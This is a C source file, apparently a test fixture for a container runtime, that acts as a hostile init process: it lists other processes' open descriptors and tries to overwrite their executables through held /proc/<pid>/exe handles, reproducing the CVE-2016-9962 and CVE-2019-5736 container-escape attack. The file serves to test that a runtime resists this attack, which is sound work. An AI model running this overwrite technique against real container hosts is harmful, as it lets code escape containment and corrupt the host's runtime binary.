/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A hostile first process: watches every other process that turns up in its pid namespace, prints each descriptor of
 * it that it can see, and tries to write to the program it runs (CVE-2016-9962, CVE-2019-5736). Ends on SIGTERM.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void end(int sig)
{
	(void) sig;
	fflush(stdout);
	_exit(0);
}

static void look_at_fds(const char *pid)
{
	char path[512], target[512];
	DIR *d;
	struct dirent *e;

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	d = opendir(path);
	while (d && (e = readdir(d))) {
		if (!isdigit((unsigned char) e->d_name[0]) || atoi(e->d_name) < 3)
			continue;
		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, e->d_name);
		ssize_t n = readlink(path, target, sizeof(target) - 1);

		if (n > 0) {
			target[n] = 0;
			printf("SEEN fd %s -> %s\n", e->d_name, target);
		}
	}
	if (d)
		closedir(d);
}

/* A program that runs cannot be written to, so the fd is kept until it has ended: that is how the attack works. */
static struct held {
	int fd;
	char exe[256];
} held[64];
static unsigned n_held;

static void grab(const char *pid)
{
	struct held *h = &held[n_held % 64];
	char path[64];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	if (n_held++ >= 64)
		close(h->fd);
	h->fd = fd;
	/* of what we hold, not of what the process has become meanwhile */
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, h->exe, sizeof(h->exe) - 1);
	h->exe[n > 0 ? n : 0] = 0;
}

static void overwrite(void)
{
	char self[64];
	int w;

	for (unsigned i = 0; i < n_held && i < 64; i++) {
		if (strstr(held[i].exe, "busybox"))
			continue; /* the tests still need it */
		snprintf(self, sizeof(self), "/proc/self/fd/%d", held[i].fd);
		w = open(self, O_WRONLY);
		if (w >= 0 && write(w, "pwned", 5) == 5)
			printf("OVERWROTE %s\n", held[i].exe);
		if (w >= 0)
			close(w);
	}
}

int main(void)
{
	DIR *d;
	struct dirent *e;

	signal(SIGTERM, end);
	for (;;) {
		d = opendir("/proc");
		while (d && (e = readdir(d)))
			if (isdigit((unsigned char) e->d_name[0]) && atoi(e->d_name) != getpid()) {
				look_at_fds(e->d_name);
				grab(e->d_name);
			}
		if (d)
			closedir(d);
		overwrite();
	}
}
